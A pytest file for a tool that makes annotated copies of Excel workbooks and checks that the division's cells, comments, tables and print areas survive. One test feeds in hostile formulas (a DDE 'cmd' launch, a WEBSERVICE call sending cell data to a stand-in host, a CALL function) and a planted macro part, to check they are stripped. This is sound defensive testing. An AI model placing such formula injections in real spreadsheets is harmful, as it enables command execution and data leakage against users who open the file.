"""A marked copy: the division's own file with colours, comments and a first sheet, and nothing else changed."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.worksheet.table import Table

from vlr.workbook.archive import RefusedError
from vlr.workbook.marked import FirstSheet, Line, Mark, marked
from vlr.workbook.open import open_book
from vlr.workbook.unmarked import unmarked

FIRST = FirstSheet(
    "Problems",
    (
        Line(("Problems in Päivä.xlsx",), "title", hidden="here we are"),
        Line(("Where", "What"), "head"),
        Line(("Data!B2", "=HYPERLINK(1)"), "F4B8B2", ("Data", "B2")),
    ),
    (20.0, 40.0),
    8,
)
MARKS = [Mark("Data", 2, 2, "F4B8B2", "error: <two> values"), Mark("Data", 9, 4, "FCE3A6", "warning: empty")]


def workbook() -> bytes:
    """Formats, a formula with its result, a comment of the division, a table, a print area, two sheets."""
    book = openpyxl.Workbook()
    page = book.active
    page.title = "Data"
    for row in (["Indicator", "2020"], ["Obesity", 21.5], ["Smoking", "=B2*2"]):
        page.append(row)
    page["B2"].font = Font(bold=True, color="FF0000")
    page["B2"].number_format = "0.00"
    page["A2"].comment = Comment("from the register", "Aino")
    page.print_area = "A1:B3"
    page.add_table(Table(displayName="T", ref="A1:B3"))
    book.create_sheet("Other's")["A1"] = "x"
    book["Other's"].print_area = "A1:A1"
    buffer = io.BytesIO()
    book.save(buffer)
    return with_result(buffer.getvalue())


def with_result(content: bytes) -> bytes:
    """The formula gets the result that a spreadsheet program would have saved."""
    return rewritten(
        content,
        "xl/worksheets/sheet1.xml",
        lambda xml: (
            xml.replace(b"<v />", b"<v>43</v>").replace(b"<v></v>", b"<v>43</v>").replace(b"<v/>", b"<v>43</v>")
        ),
    )


def rewritten(content: bytes, part: str, change) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            data = old.read(info)
            new.writestr(info.filename, change(data) if info.filename == part else data)
    return out.getvalue()


def opened(content: bytes, tmp_path: Path, name: str = "copy.xlsx"):
    path = tmp_path / name
    path.write_bytes(content)
    book, findings = open_book(path, name)
    assert book is not None, findings
    return book


def test_the_cells_of_the_division_are_what_they_were(tmp_path: Path):
    before = opened(workbook(), tmp_path)
    after = opened(marked(workbook(), MARKS, FIRST, {"vlr-copy-of": "abc"}), tmp_path)
    assert [sheet.name for sheet in after.sheets] == ["Problems", "Data", "Other's"]
    assert [sheet.cells for sheet in after.sheets[1:]] == [sheet.cells for sheet in before.sheets]
    assert after.sheets[1].cells[3, 2].value == 43.0
    assert after.properties == {"vlr-copy-of": "abc"}


def test_cells_are_coloured_and_keep_the_rest_of_their_look():
    page = openpyxl.load_workbook(io.BytesIO(marked(workbook(), MARKS, FIRST, {})))["Data"]
    assert page["B2"].fill.fgColor.rgb == "FFF4B8B2"
    assert (page["B2"].font.bold, page["B2"].number_format) == (True, "0.00")
    assert page["D9"].fill.fgColor.rgb == "FFFCE3A6"
    assert page["A1"].fill.fgColor.rgb != "FFF4B8B2"


def test_comments_of_both_stand_side_by_side():
    book = openpyxl.load_workbook(
        io.BytesIO(marked(workbook(), [*MARKS, Mark("Data", 2, 1, "D6E4F2", "note")], FIRST, {}))
    )
    page = book["Data"]
    assert page["B2"].comment.text == "vlr · error: <two> values"
    assert page["A2"].comment.text == "from the register\n\nvlr · note"
    assert page["D9"].comment is not None


def test_the_first_sheet_links_to_the_cells_and_runs_nothing():
    book = openpyxl.load_workbook(io.BytesIO(marked(workbook(), MARKS, FIRST, {})))
    page = book.worksheets[0]
    assert page["A3"].hyperlink.location == "'Data'!B2"
    assert page["B3"].data_type in ("s", "inlineStr")
    assert page["B3"].value == "=HYPERLINK(1)"
    assert page.column_dimensions["H"].hidden


def test_names_that_belong_to_sheets_still_belong_to_them():
    book = openpyxl.load_workbook(io.BytesIO(marked(workbook(), MARKS, FIRST, {})))
    assert "Data" in str(book["Data"].print_area)
    assert "Other" in str(book["Other's"].print_area)
    assert book["Data"].tables["T"].ref == "A1:B3"


def test_it_is_worked_out_anew_when_opened():
    with zipfile.ZipFile(io.BytesIO(marked(workbook(), MARKS, FIRST, {}))) as archive:
        assert b'fullCalcOnLoad="1"' in archive.read("xl/workbook.xml")


def test_the_same_input_gives_the_same_bytes():
    content = workbook()
    assert marked(content, MARKS, FIRST, {"a": "b"}) == marked(content, MARKS, FIRST, {"a": "b"})


@pytest.mark.parametrize(
    "formula", ["cmd|'/C calc'!A0", "[1]Sheet1!A1", 'WEBSERVICE("http://x/"&amp;A1)', 'CALL("k","f")']
)
def test_a_formula_that_reaches_out_keeps_its_result_only(formula: str):
    content = rewritten(workbook(), "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"B2*2", formula.encode()))
    with zipfile.ZipFile(io.BytesIO(marked(content, MARKS, FIRST, {}))) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f" not in sheet
    assert ">43<" in sheet


def test_a_bar_inside_a_text_reaches_nowhere():
    content = rewritten(workbook(), "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"B2*2", b'B2&amp;"|"'))
    with zipfile.ZipFile(io.BytesIO(marked(content, MARKS, FIRST, {}))) as archive:
        assert b"<f>" in archive.read("xl/worksheets/sheet1.xml")


def test_macros_do_not_travel():
    content = workbook()
    kind = b"http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    relation = b'<Relationship Id="rIdM" Type="' + kind + b'" Target="vbaProject.bin"/></Relationships>'
    content = rewritten(content, "xl/_rels/workbook.xml.rels", lambda xml: xml.replace(b"</Relationships>", relation))
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"macro")
    with zipfile.ZipFile(io.BytesIO(marked(out.getvalue(), MARKS, FIRST, {}))) as archive:
        assert "xl/vbaProject.bin" not in archive.namelist()
        assert b"vbaProject" not in archive.read("xl/_rels/workbook.xml.rels")


def test_marks_can_be_taken_off_again(tmp_path: Path):
    content = workbook()
    clean = unmarked(
        marked(content, [*MARKS, Mark("Data", 2, 1, "D6E4F2", "note")], FIRST, {}),
        ["Problems"],
        ["F4B8B2", "FCE3A6", "D6E4F2"],
    )
    assert [s.cells for s in opened(clean, tmp_path).sheets] == [s.cells for s in opened(content, tmp_path).sheets]
    page = openpyxl.load_workbook(io.BytesIO(clean))["Data"]
    assert page["B2"].fill.fill_type is None
    assert page["B2"].comment is None
    assert page["A2"].comment.text == "from the register"
    assert "Data" in str(page.print_area)
    assert openpyxl.load_workbook(io.BytesIO(marked(clean, MARKS, FIRST, {}))).sheetnames[0] == "Problems"


def test_the_divisions_own_colour_stays_when_marks_are_taken_off():
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    book["Data"]["A3"].fill = PatternFill("solid", fgColor="00FF00")
    buffer = io.BytesIO()
    book.save(buffer)
    clean = unmarked(marked(buffer.getvalue(), MARKS, FIRST, {}), ["Problems"], ["F4B8B2", "FCE3A6"])
    assert openpyxl.load_workbook(io.BytesIO(clean))["Data"]["A3"].fill.fgColor.rgb == "0000FF00"


def test_what_is_no_workbook_is_refused():
    with pytest.raises(RefusedError):
        marked(b"PK nothing", MARKS, FIRST, {})
